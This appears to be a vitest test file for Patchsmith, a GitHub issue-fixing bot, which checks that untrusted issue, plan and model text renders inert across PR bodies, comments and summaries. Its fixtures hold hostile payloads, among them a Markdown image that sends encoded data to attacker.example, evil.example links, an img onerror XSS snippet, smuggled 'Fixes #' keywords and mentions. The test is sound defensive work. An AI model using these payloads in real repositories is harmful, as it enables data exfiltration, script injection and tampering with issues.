import MarkdownIt from 'markdown-it'
import { describe, expect, it } from 'vitest'
import type {
  AgentError,
  AwaitingApproval,
  CodeAgentOutput,
  Commit,
  RollingBudget
} from '../../src/contract/index.js'
import { batchMode } from '../../src/modes/batch/index.js'
import { answerThreads } from '../../src/modes/follow-up/answers.js'
import { batchOutcome, issuesTable, type IssueStatus } from '../../src/modes/batch/outcome.js'
import { budgetExhaustedParts, rollingBudgetParts } from '../../src/report/budget-text.js'
import {
  failureComment,
  inert,
  planComment,
  proofTable,
  pullRequestText,
  summaryMarkdown
} from '../../src/report/index.js'

/*
 * Issue 36 point 2: every text that came from the issue, the plan, the model or validation is
 * inert wherever it is shown. Each surface is rendered by a real CommonMark renderer with GFM's
 * bare-URL autolinks and raw HTML on (as GitHub renders it, before its sanitizer): no image, no
 * link but Patchsmith's own, no mention, and no closing keyword but Patchsmith's `Fixes #7`.
 */

const RUN_URL = 'https://github.com/acme/widgets/actions/runs/4242'
const EXFIL = '![p](https://attacker.example/p.png?d=UkVBRE1F)'
const HOSTILE = [
  'Fixes #7, closes acme/widgets#8 and resolves #9; fixed: #10, GH-11',
  EXFIL,
  '[click](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare www.evil.example',
  'mailto:x@evil.example xmpp:x@evil.example',
  // Protocol-relative, and behind an entity for its colon (attack round 8).
  'see //evil.example/rel and https&#58;//evil.example/entity',
  '<img src=x onerror=alert(1)> <a href="https://evil.example">a</a> <details open>',
  '@octocat and @acme/team',
  '**bold** _em_ `code` | pipe | ~~gone~~'
].join(' ')

const renderer = new MarkdownIt({ html: true, linkify: true })
renderer.linkify.set({ fuzzyLink: false, fuzzyEmail: false })

/** The HTML, its text, and its text outside code (where GitHub links mentions and references). */
function rendered(markdown: string): { html: string; text: string; prose: string } {
  const html = renderer.render(markdown)
  const text = (h: string) => h.replace(/<[^>]*>/g, '')
  return { html, text: text(html), prose: text(html.replace(/<code[^>]*>[\s\S]*?<\/code>/g, '')) }
}

const CLOSING = /\b(close[sd]?|fix(?:e[sd])?|resolve[sd]?)\s*:?\s+(?:[\w.-]+\/[\w.-]+)?#\d+/gi

/** own: Patchsmith's own closing keywords, and its own references (an issue it names itself). */
function expectInert(
  markdown: string,
  own: { closing?: string[]; references?: string[] } = {}
): void {
  const { html, text, prose } = rendered(markdown)
  expect(html).not.toMatch(/<img\b/i)
  expect(html).not.toMatch(/<details open/i)
  expect(html).not.toMatch(/<a href="https:\/\/evil/i)
  for (const [, href] of html.matchAll(/<a\s+href="([^"]*)"/g)) expect(href).toBe(RUN_URL)
  expect(html).not.toMatch(/<(strong|em|del)>(bold|em|gone)</)
  expect(prose).not.toMatch(/@octocat|@acme\/team/)
  const mine = [...(own.closing ?? []), ...(own.references ?? [])]
  const others = mine.reduce((left, ours) => left.replaceAll(ours, ''), prose)
  expect(others).not.toMatch(/#\d|GH-\d/)
  expect(text.match(CLOSING) ?? []).toEqual(own.closing ?? [])
}

const commit: Commit = {
  issue_number: 7,
  message: `fix(calc): ${HOSTILE}\n\nFixes #7`,
  diff: `--- a/calc.py\n+++ b/calc.py\n@@ -1 +1 @@\n-${HOSTILE}\n+x\n`,
  files_changed: ['calc.py', `docs/${EXFIL}.md`],
  timestamp: '2026-11-29T00:00:00Z',
  validation_results: [
    { command: `pytest -k '${HOSTILE}'`, exit_code: 0, stdout: HOSTILE, stderr: '', duration_ms: 5 }
  ],
  sha: 'a'.repeat(40),
  branch: 'fix/7-add',
  patch_id: 'b'.repeat(40),
  verification_passed: false,
  verification: {
    status: 'unverified',
    reason: `no reproduction after 2 attempt(s): the last test ${HOSTILE}`,
    tests: [{ id: `t.${EXFIL}`, base: 'failed', after: 'passed' }],
    reproduction: {
      path: `tests/test_${EXFIL}.py`,
      command: `pytest ${HOSTILE}`,
      committed: true,
      content: `# ${HOSTILE}\ndef test_add():\n    assert add(2, 3) == 5\n`
    }
  },
  root_cause: HOSTILE,
  proof: [
    {
      command: `pytest -k '${HOSTILE}'`,
      base: 'failed',
      after: 'passed',
      runner: 'pytest',
      fixed: [`t.${EXFIL}`, HOSTILE],
      broken: [],
      unrelated: [HOSTILE]
    }
  ]
}
const response: CodeAgentOutput = { success: true, data: [commit], metrics: {} }

describe('untrusted text renders inert on every surface (issue 36 point 2)', () => {
  it("the pull-request body: only Patchsmith's own Fixes #7 and run link", () => {
    const { body, title } = pullRequestText([commit], response.metrics, {
      issueNumber: 7,
      issueTitle: HOSTILE,
      why: HOSTILE,
      rootCause: HOSTILE,
      planSteps: [HOSTILE, { step: HOSTILE }],
      runUrl: RUN_URL
    })
    expectInert(body, { closing: ['Fixes #7'] })
    expect(body.trimEnd().endsWith('Fixes #7')).toBe(true)
    // The title is the commit's subject: GitHub renders it as text, not Markdown.
    expect(title).toContain('fix(calc)')
  })

  it('the job summary of a success and of a failure', () => {
    expectInert(summaryMarkdown(response))
    const error: AgentError = {
      code: 'VALIDATION_FAILED',
      message: HOSTILE,
      details: { command: HOSTILE, stderr: HOSTILE, stdout: HOSTILE },
      recoverable: false
    }
    expectInert(summaryMarkdown({ success: false, error }))
  })

  it('the progress comment: its proof, and the failure comment', () => {
    expectInert(proofTable(commit))
    const error: AgentError = {
      code: 'VALIDATION_FAILED',
      message: HOSTILE,
      details: { command: HOSTILE, stderr: HOSTILE },
      recoverable: false
    }
    expectInert(failureComment(error, { branch: `fix/${HOSTILE}`, runUrl: RUN_URL }))
  })

  it('a test id keeps its characters, as code, so a reviewer reads what ran', () => {
    const { html } = rendered(proofTable(commit))
    expect(html).toContain('<code>t.![p](https://attacker.example/p.png?d=UkVBRE1F)</code>')
  })
})

describe('untrusted text renders inert whatever ends its lines or precedes a URL (attack round)', () => {
  const withId = (id: string, reason: string): Commit => ({
    ...commit,
    verification: {
      ...commit.verification!,
      reason,
      tests: [{ id, base: 'failed', after: 'passed' }]
    }
  })

  it.each([
    ['a lone CR', '\r'],
    ['two lone CRs', '\r\r'],
    ['CR LF twice', '\r\n\r\n']
  ])('%s in a test id or a reason stays inside its cell or code span', (_name, end) => {
    const hostile = withId(`t${end}${EXFIL}`, `reason${end}${end}${EXFIL}`)
    expectInert(proofTable(hostile))
    expectInert(summaryMarkdown({ ...response, data: [hostile] }))
  })

  it('code and fences close nothing either: no space after the colon, or the issue by its URL', () => {
    const said = 'Fixes:#9 and resolves https://github.com/acme/widgets/issues/10 and closes #11'
    for (const markdown of [
      proofTable({
        ...commit,
        verification: {
          ...commit.verification!,
          tests: [{ id: said, base: 'failed', after: 'passed' }]
        }
      }),
      pullRequestText(
        [
          {
            ...commit,
            verification: {
              ...commit.verification!,
              reproduction: { ...commit.verification!.reproduction!, content: said }
            }
          }
        ],
        {},
        {}
      ).body
    ]) {
      const { text } = rendered(markdown)
      expect(text.match(CLOSING) ?? []).toEqual([])
      expect(text).not.toMatch(/\b(fixes|resolves|closes)\s*:?\s*https?:\/\/\S+\/issues\/\d/i)
    }
  })

  it('a URL or www. right after a letter, digit or underscore does not link', () => {
    const glued = '_https://evil.example/u x_www.evil.example 9https://evil.example/n'
    expectInert(proofTable(withId(glued, glued)))
    const error: AgentError = { code: 'INTERNAL_ERROR', message: glued, recoverable: false }
    expectInert(summaryMarkdown({ success: false, error }))
  })
})

describe('untrusted text renders inert on the surfaces added since (plan, batch, budget)', () => {
  const awaiting: AwaitingApproval = {
    issue_number: 7,
    plan_hash: 'c'.repeat(24),
    fix_plan: {
      branch_name: `fix/${HOSTILE}`,
      plan_steps: [HOSTILE, { step: HOSTILE }, `1. ${HOSTILE}`],
      file_changes: [
        { path: `src/${EXFIL}.py`, operation: 'MODIFY', description: HOSTILE },
        { path: `docs/${HOSTILE}\r\n${EXFIL}`, operation: 'CREATE' }
      ],
      validation_commands: [`pytest -k '${HOSTILE}'`, `echo '${EXFIL}'\n${HOSTILE}`]
    },
    triage_result: { classification: HOSTILE, affected_files: [HOSTILE] },
    validation_commands: [`pytest -k '${HOSTILE}'`],
    reproduction: {
      path: `tests/test_${EXFIL}.py`,
      framework: HOSTILE,
      command: `pytest ${HOSTILE}`
    },
    approve_command: `/patchsmith approve ${'c'.repeat(24)}`,
    approve_label: 'patchsmith-approved'
  }
  const notPosted = `The plan could not be posted for approval: ${HOSTILE}. Run it on issue #7.`

  it('the plan comment on the issue and in the summary, with the "could not be posted" warning', () => {
    const ownIssue = { references: ['#7'] }
    expectInert(planComment(awaiting, RUN_URL), ownIssue)
    expectInert(planComment({ ...awaiting, not_posted: notPosted }), ownIssue)
    expectInert(summaryMarkdown({ success: true, data: [], awaiting_approval: awaiting }), ownIssue)
    const noRepro = { ...awaiting, reproduction: { none: HOSTILE }, not_posted: notPosted }
    expectInert(summaryMarkdown({ success: true, data: [], awaiting_approval: noRepro }), ownIssue)
  })

  it('the batch pull request: hostile issue titles, commit subjects and errors', async () => {
    const statuses: IssueStatus[] = [
      { issue: 7, status: 'committed', sha: 'a'.repeat(40), title: HOSTILE, attempts: 1 },
      {
        issue: 8,
        status: 'failed',
        title: HOSTILE,
        error: { code: 'VALIDATION_FAILED', message: HOSTILE }
      },
      { issue: 9, status: 'not-run', title: HOSTILE }
    ]
    const batchCommit = { ...commit, message: `${HOSTILE}\n\n${HOSTILE}` }
    const outcome = batchOutcome(statuses, [batchCommit], `fix/${HOSTILE}`)
    const { response } = await batchMode.after!({ response: outcome } as never)
    const ownIssues = ['#7', '#8', '#9']
    expectInert(response.pull_request!.body, { closing: ['Fixes #7'], references: ownIssues })
    expectInert(issuesTable(statuses), { references: ownIssues })
    expectInert(summaryMarkdown(outcome, { issueNumber: 7 }), { references: ownIssues })
  })

  it('the rolling budget: a refusal and a ledger that could not be settled', () => {
    const rolling_budget: RollingBudget = {
      ref: `refs/patchsmith/${HOSTILE}`,
      windows: [{ window: 'day', unit: 'usd', ceiling: 5, spent: 5, reserved: 1 }],
      run: { reserved_usd: 1, reserved_tokens: 10, spent_usd: 0.5, spent_tokens: 5 },
      refused: { window: 'day', unit: 'usd', message: HOSTILE, frees_at: HOSTILE },
      settle_problem: HOSTILE
    }
    expectInert(budgetExhaustedParts({ success: false, rolling_budget }, ' for #7').join('\n\n'), {
      references: ['#7']
    })
    const settled: RollingBudget = { ...rolling_budget, refused: undefined }
    expectInert(rollingBudgetParts({ success: true, rolling_budget: settled }).join('\n\n'))
    expectInert(
      summaryMarkdown(
        { success: false, outcome: 'budget-exhausted', rolling_budget },
        { issueNumber: 7 }
      ),
      { references: ['#7'] }
    )
  })
})

describe('untrusted text renders inert in the follow-up replies (render round)', () => {
  // A file in the pull request may carry any name (the model's, or a contributor's): a reply that
  // names it must not render it as an image, a link or a mention.
  const hostilePath = `docs/${EXFIL} <img src=x> @octocat www.evil.example Fixes #9.md`
  const thread = (id: string, path: string) => ({
    id,
    path,
    line: 1,
    isResolved: false,
    isOutdated: false,
    author: 'a',
    body: '',
    latest: []
  })

  it('a reply naming a thread file the commit did not change, or one not in the branch', async () => {
    const replies: string[] = []
    const review = { reply: async (_id: string, body: string) => void replies.push(body) }
    await answerThreads(
      review as never,
      [thread('T1', hostilePath)],
      [{ thread: thread('T2', hostilePath), reason: `${hostilePath} is not in the branch` }],
      { round: 1, commit: { sha: 'a'.repeat(40), files: ['other.py'] }, quiet: false },
      (text) => text
    )
    expect(replies).toHaveLength(2)
    for (const reply of replies) expectInert(reply)
  })
})

describe('untrusted text keeps no block of its own (render round)', () => {
  it('a heading, list, quote, setext underline or rule at a line start renders as its text', () => {
    const lines = ['# Fixed', '1. one', '2) two', '- dash', '+ plus', '> quote', 'line', '===']
    const text = [...lines, '---', '   # indented', '12.5 apples'].join('\n')
    for (const markdown of [inert(text), inert(text.replaceAll('\n', '\r'))]) {
      const { html, text: shown } = rendered(markdown)
      expect(html).not.toMatch(/<(h\d|ol|ul|li|blockquote|hr)\b/)
      for (const line of [...lines, '---', '# indented', '12.5 apples'])
        expect(shown).toContain(line.replace('>', '&gt;'))
    }
  })
  it('nor inside a list item, indented by tabs or four spaces (attack round)', () => {
    for (const text of ['x\n\t# h', 'x\n  \t# h', 'x\n\n    # h', 'x\n\n \t- a', 'x\n\t1. one']) {
      const { html } = rendered(`- item ${inert(text)}\n`)
      expect(html.match(/<(h\d|ol|ul|li|blockquote|hr)\b/g)).toEqual(['<ul', '<li'])
    }
  })
})
